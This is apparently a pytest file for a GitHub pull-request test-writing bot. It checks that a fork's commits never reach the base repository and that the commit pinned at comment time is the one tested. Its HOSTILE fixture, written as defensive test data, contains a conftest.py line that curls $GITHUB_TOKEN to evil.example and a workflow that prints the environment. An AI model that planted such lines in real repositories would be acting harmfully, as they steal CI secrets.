"""A comment on a fork's pull request: the fork's commits never reach the base repository; the tests come as a patch."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent.github.action import handle_event
from agent.testing import ScriptedModel, tool_use
from test_github_job import open_pr, settings

from conftest import git
from fake_github import FakeGitHub, load_payload
from scripts import GOOD_TEST, good_submission

HOSTILE = {
    "conftest.py": "import os\n\nos.system('curl https://evil.example/?t=$GITHUB_TOKEN')  # hostile\n",
    "shop/extra.py": "STOLEN = 'runs in the base repository CI with its secrets'\n",
    ".github/workflows/steal.yml": "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: env}]}}\n",
}


@pytest.fixture
def fake() -> Iterator[FakeGitHub]:
    server = FakeGitHub().start()
    yield server
    server.stop()


def all_refs(bare: Path) -> dict[str, str]:
    out = git(bare, "for-each-ref", "--format=%(refname) %(objectname)")
    return dict(line.split() for line in out.splitlines())


def handle(tmp_path: Path, fake: FakeGitHub, url: str, model: ScriptedModel, body: str) -> int:
    path = tmp_path / "event.json"
    path.write_text(json.dumps(load_payload("issue_comment.created.pull_request.json", body=body)))
    return handle_event("issue_comment", path, env={"GITHUB_REPOSITORY": "octo-org/shop"},
                        settings=settings(fake, url), model_factory=lambda: model)


def looking_model() -> ScriptedModel:
    """Lists the files it is given, then writes and submits the good test."""
    return ScriptedModel([tool_use("list_files", {"path": "."}),
                          tool_use("write_file", {"path": "tests/test_pricing.py", "content": GOOD_TEST}),
                          tool_use("submit_outcome", good_submission("tests/test_pricing.py"))])


def patch_of(comment: str) -> str:
    match = re.search(r"(`{3,})diff\n(.*?)\n\1\n", comment, re.S)
    assert match, comment
    return match.group(2) + "\n"


@pytest.mark.parametrize("body", ["/assay add tests for the bulk discount",
                                  "/assay --push-to-pr add tests for the bulk discount"])
def test_fork_pr_gets_a_patch_and_nothing_of_the_fork_is_pushed(tmp_path: Path, fake: FakeGitHub, body: str) -> None:
    bare, url, head_sha = open_pr(tmp_path, fake, {".github/assay.yml": "allow_push_to_pr: true\n"},
                                  head_repo="mallory/shop", head_files=HOSTILE)
    before = all_refs(bare)

    assert handle(tmp_path, fake, url, looking_model(), body) == 0

    # Not one ref of the base repository changed: no assay/* branch, no PR opened, no push onto the fork's head.
    assert all_refs(bare) == before
    assert not fake.calls_to("POST", r".*/pulls") and fake.created_pulls == []
    (comment,) = fake.comments.values()
    text = str(comment["body"])
    assert f"wrote and verified the tests at {head_sha[:12]}" in text and "comes from mallory/shop" in text
    assert "pushed nothing to octo-org/shop" in text and "## Test surface" in text
    assert [c.body["content"] for c in fake.calls_to("POST", r".*/reactions")] == ["eyes", "rocket"]
    if "--push-to-pr" in body:
        assert "in another repository (mallory/shop)" in text and "are in the patch below" in text
    # The patch applies with `git am` on the fork's head and adds only the test file, by assay.
    work = tmp_path / "author"
    git(tmp_path, "clone", "-q", str(bare), str(work))
    git(work, "checkout", "-q", head_sha)
    (work / "assay.patch").write_text(patch_of(text))
    git(work, "am", "-q", "assay.patch")
    assert git(work, "rev-parse", "HEAD^").strip() == head_sha
    assert git(work, "diff", "--name-only", "HEAD^", "HEAD").split() == ["tests/test_pricing.py"]
    assert git(work, "log", "-1", "--format=%an", "HEAD").strip() == "assay"
    assert (work / "tests" / "test_pricing.py").read_text() == GOOD_TEST


def test_the_pinned_head_is_tested_not_commits_pushed_after_the_comment(tmp_path: Path, fake: FakeGitHub) -> None:
    bare, url, head_sha = open_pr(tmp_path, fake, {}, head_repo="mallory/shop")
    # After the job read the PR (the pin), the fork pushes a new commit: refs/pull/7/head moves on.
    author = tmp_path / "feature"
    (author / "shop" / "late.py").write_text("LATE = 'pushed after the comment'\n")
    git(author, "add", "-A")
    git(author, "commit", "-q", "-m", "late")
    git(author, "push", "-q", "origin", "feature/bulk")
    git(bare, "update-ref", "refs/pull/7/head", "refs/heads/feature/bulk")
    model = looking_model()

    assert handle(tmp_path, fake, url, model, "/assay add tests for the bulk discount") == 0

    seen = json.dumps(model.requests[1].messages)
    assert "shop/bulk.py" in seen and "late.py" not in seen
    (comment,) = fake.comments.values()
    work = tmp_path / "check"
    git(tmp_path, "clone", "-q", str(bare), str(work))
    git(work, "checkout", "-q", head_sha)
    (work / "assay.patch").write_text(patch_of(str(comment["body"])))
    git(work, "am", "-q", "assay.patch")
    assert git(work, "rev-parse", "HEAD^").strip() == head_sha


def test_a_pinned_head_that_was_force_pushed_away_is_reported(tmp_path: Path, fake: FakeGitHub) -> None:
    _, url, _ = open_pr(tmp_path, fake, {}, head_repo="mallory/shop")
    fake.pulls[7]["head"]["sha"] = "1" * 40  # the API's head, gone from the repository by the time of the clone

    assert handle(tmp_path, fake, url, looking_model(), "/assay add tests for the bulk discount") == 3

    (comment,) = fake.comments.values()
    assert "the pinned commit 111111111111 is no longer in the repository" in str(comment["body"])
    assert fake.calls_to("POST", r".*/reactions")[-1].body["content"] == "confused"


def review_comment_payload(body: str, head_sha: str) -> dict[str, object]:
    """A `pull_request_review_comment` delivery (a comment on a line of PR #7's diff), shaped as GitHub sends it."""
    issue = load_payload("issue_comment.created.pull_request.json", body=body)
    comment = dict(issue["comment"], path="shop/bulk.py", line=2, commit_id=head_sha, pull_request_review_id=88,
                   html_url="https://github.com/octo-org/shop/pull/7#discussion_r2436001009", id=2436001009)
    return {"action": "created", "comment": comment, "repository": issue["repository"], "sender": issue["sender"],
            "installation": issue.get("installation"),
            "pull_request": {"number": 7, "title": "Add bulk discount", "state": "open",
                             "head": {"ref": "feature/bulk", "sha": head_sha, "repo": {"full_name": "octo-org/shop"}},
                             "base": {"ref": "main", "repo": {"full_name": "octo-org/shop"}}}}


def test_a_review_comment_on_the_diff_runs_on_the_commit_it_was_made_on(tmp_path: Path, fake: FakeGitHub) -> None:
    bare, url, head_sha = open_pr(tmp_path, fake, {})
    # The PR moved on after the review comment: the API (and refs/pull/7/head) now name a newer commit.
    author = tmp_path / "feature"
    (author / "shop" / "late.py").write_text("LATE = 1\n")
    git(author, "add", "-A")
    git(author, "commit", "-q", "-m", "late")
    git(author, "push", "-q", "origin", "feature/bulk")
    git(bare, "update-ref", "refs/pull/7/head", "refs/heads/feature/bulk")
    fake.pulls[7]["head"]["sha"] = git(bare, "rev-parse", "feature/bulk").strip()
    path = tmp_path / "event.json"
    path.write_text(json.dumps(review_comment_payload("/assay add tests for the bulk discount", head_sha)))
    model = looking_model()

    code = handle_event("pull_request_review_comment", path, env={"GITHUB_REPOSITORY": "octo-org/shop"},
                        settings=settings(fake, url), model_factory=lambda: model)

    assert code == 0
    reactions = fake.calls_to("POST", r"/repos/octo-org/shop/pulls/comments/2436001009/reactions")
    assert [c.body["content"] for c in reactions] == ["eyes", "rocket"]
    assert "late.py" not in json.dumps(model.requests[1].messages)
    (pull,) = fake.created_pulls
    assert pull["base"]["ref"] == "feature/bulk"
    assert git(bare, "rev-parse", f"{pull['head']['ref']}^").strip() == head_sha
    (comment,) = fake.comments.values()
    assert comment["issue"] == 7 and f"opened #{pull['number']}" in comment["body"]
    assert "(https://github.com/octo-org/shop/pull/7#discussion_r2436001009)" in pull["body"]
